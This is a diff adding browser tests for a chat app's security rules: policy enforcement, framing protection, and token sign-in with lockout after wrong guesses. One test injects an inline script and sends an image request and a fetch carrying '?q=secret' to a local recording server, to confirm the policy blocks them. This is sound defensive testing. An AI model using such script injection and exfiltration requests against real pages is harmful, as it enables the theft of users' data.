@@ -1,0 +1,192 @@
+"""What only a browser can show about the security rules: the page works under its CSP with no
+violation, the CSP really blocks what it should, and an exposed app asks for the token first."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import BrowserContext, Page, expect
+
+from secretgpt.services.ollama_loopback import Reply
+
+from .conftest import API_KEY, ScriptedModel, running_app
+
+pytestmark = pytest.mark.asyncio(loop_scope="package")
+
+# Every CSP violation and console error of the page, from its very first script.
+WATCH = """
+window.__violations = [];
+document.addEventListener('securitypolicyviolation',
+    e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
+"""
+
+
+class Watched:
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.errors: list[str] = []
+        page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
+        page.on("pageerror", lambda e: self.errors.append(str(e)))
+
+    async def violations(self) -> list[str]:
+        return await self.page.evaluate("window.__violations")
+
+
+async def watched_page(browser: Any, **kwargs: Any) -> tuple[BrowserContext, Watched]:
+    context = await browser.new_context(**kwargs)
+    await context.add_init_script(WATCH)
+    return context, Watched(await context.new_page())
+
+
+async def until(condition: Any, timeout: float = 10.0) -> None:
+    """Poll an async condition (Playwright for Python has no expect.poll)."""
+    deadline = asyncio.get_running_loop().time() + timeout
+    while not await condition():
+        if asyncio.get_running_loop().time() > deadline:
+            raise AssertionError("timed out")
+        await asyncio.sleep(0.05)
+
+
+async def ask(page: Page, text: str) -> None:
+    await page.get_by_label("Message").fill(text)
+    await page.keyboard.press("Enter")
+
+
+@pytest_asyncio.fixture(loop_scope="package")
+async def leak_server() -> AsyncIterator[tuple[int, list[bytes]]]:
+    """A loopback server that records every request that reaches it."""
+    hits: list[bytes] = []
+
+    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        hits.append(await reader.readline())
+        writer.write(b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\n\r\n")
+        await writer.drain()
+        writer.close()
+
+    server = await asyncio.start_server(handle, "127.0.0.1", 0)
+    yield server.sockets[0].getsockname()[1], hits
+    server.close()
+
+
+async def test_the_page_works_under_its_csp_and_the_csp_blocks_what_it_should(
+        browser: Any, app_url: str, model: ScriptedModel, leak_server: tuple[int, list[bytes]]) -> None:
+    model.replies.append(Reply.of("A table:\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n",
+                                  "Reasoning first.", tokens_per_second=200))
+    context, watched = await watched_page(browser, viewport={"width": 1100, "height": 900})
+    page = watched.page
+    try:
+        await page.goto(app_url)
+        await ask(page, "Show me a table")
+        await expect(page.locator(".sg-status").last).to_have_text("Completed", timeout=15_000)
+        await page.get_by_role("button", name="Settings").click()  # drawers, switches, selects
+        await expect(page.get_by_text("Streaming").first).to_be_visible()
+        await page.reload()
+        await expect(page.locator(".sg-status").last).to_have_text("Completed", timeout=15_000)
+        assert await watched.violations() == []
+        assert watched.errors == []
+
+        # The CSP is enforced, not just sent: an injected inline script does not run, and neither
+        # an image nor a fetch reaches another origin.
+        port, hits = leak_server
+        await page.evaluate("""port => {
+            const s = document.createElement('script');
+            s.textContent = 'window.__ran = true';
+            document.head.append(s);
+            const img = document.createElement('img');
+            img.src = `http://127.0.0.1:${port}/leak?q=secret`;
+            document.body.append(img);
+            fetch(`http://127.0.0.1:${port}/fetch`).catch(() => {});
+        }""", leak_server[0])
+        expected = ("script-src", "img-src", "connect-src")
+
+        async def all_blocked() -> bool:
+            seen = await watched.violations()
+            return all(any(v.startswith(directive) for v in seen) for directive in expected)
+
+        await until(all_blocked)
+        assert any(v.startswith("img-src") and f":{port}/leak" in v for v in await watched.violations())
+        assert await page.evaluate("window.__ran") is None
+        assert hits == []
+    finally:
+        await context.close()
+
+
+async def test_the_page_cannot_be_framed(browser: Any, app_url: str) -> None:
+    context, watched = await watched_page(browser)
+    try:
+        await watched.page.set_content(f'<iframe src="{app_url}/" width="600" height="400"></iframe>')
+        async def refused() -> bool:
+            return any("frame-ancestors" in e for e in watched.errors)
+
+        await until(refused)
+        frame = watched.page.frames[-1]
+        assert await frame.locator("#app").count() == 0
+    finally:
+        await context.close()
+
+
+# --- sign-in when exposed -------------------------------------------------------------------------------
+
+TOKEN = "browser-test-access-token"
+
+
+@pytest_asyncio.fixture(loop_scope="package", scope="module")
+async def exposed_url(model: ScriptedModel, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[str]:
+    """The app listening on every interface (so sign-in is required by default)."""
+    env = {"SECRETGPT_HOST": "0.0.0.0", "SECRETGPT_API_TOKEN": TOKEN, "SECRET_AI_URL": model.server.url,
+           "SECRET_AI_MODEL": "browser-model", "SECRET_AI_API_KEY": API_KEY, "TYPING_SPEED": "fast"}
+    async with running_app(env, tmp_path_factory, ready_path="/login") as url:
+        yield url
+
+
+async def test_an_exposed_page_asks_for_the_token_and_remembers_it(browser: Any, exposed_url: str,
+                                                                   model: ScriptedModel) -> None:
+    context, watched = await watched_page(browser)
+    page = watched.page
+    try:
+        await page.goto(exposed_url)
+        await expect(page).to_have_url(f"{exposed_url}/login")
+        assert await page.get_by_label("Message").count() == 0
+        token = page.get_by_label("Access token")
+        assert await token.get_attribute("type") == "password"
+        await token.fill("not-the-token")
+        await token.press("Enter")
+        await expect(page.get_by_text("That is not the access token")).to_be_visible()
+        await expect(page).to_have_url(f"{exposed_url}/login")
+
+        await token.fill(TOKEN)
+        await page.get_by_role("button", name="Sign in").click()
+        await expect(page).to_have_url(f"{exposed_url}/")
+        model.replies.append(Reply.of("Signed in and answering.", tokens_per_second=200))
+        await ask(page, "Am I in?")
+        await expect(page.locator(".sg-status").last).to_have_text("Completed", timeout=15_000)
+        await page.reload()  # remembered for this browser
+        await expect(page.get_by_label("Message")).to_be_visible()
+        await page.goto(f"{exposed_url}/login")  # signed in: the sign-in page sends you on
+        await expect(page).to_have_url(f"{exposed_url}/")
+        assert await watched.violations() == []
+        assert watched.errors == []
+    finally:
+        await context.close()
+
+    # Another browser has to sign in for itself; after five wrong tokens it must wait.
+    other, watched = await watched_page(browser)
+    try:
+        await watched.page.goto(exposed_url)
+        await expect(watched.page).to_have_url(f"{exposed_url}/login")
+        token = watched.page.get_by_label("Access token")
+        for _ in range(5):
+            await token.fill("guess")
+            await token.press("Enter")
+            await expect(watched.page.get_by_text("That is not the access token")).to_be_visible()
+            await expect(token).to_have_value("")
+        await token.fill(TOKEN)  # even the right token waits out the window
+        await token.press("Enter")
+        await expect(watched.page.get_by_text("Too many wrong tokens")).to_be_visible()
+        await expect(watched.page).to_have_url(f"{exposed_url}/login")
+    finally:
+        await other.close()
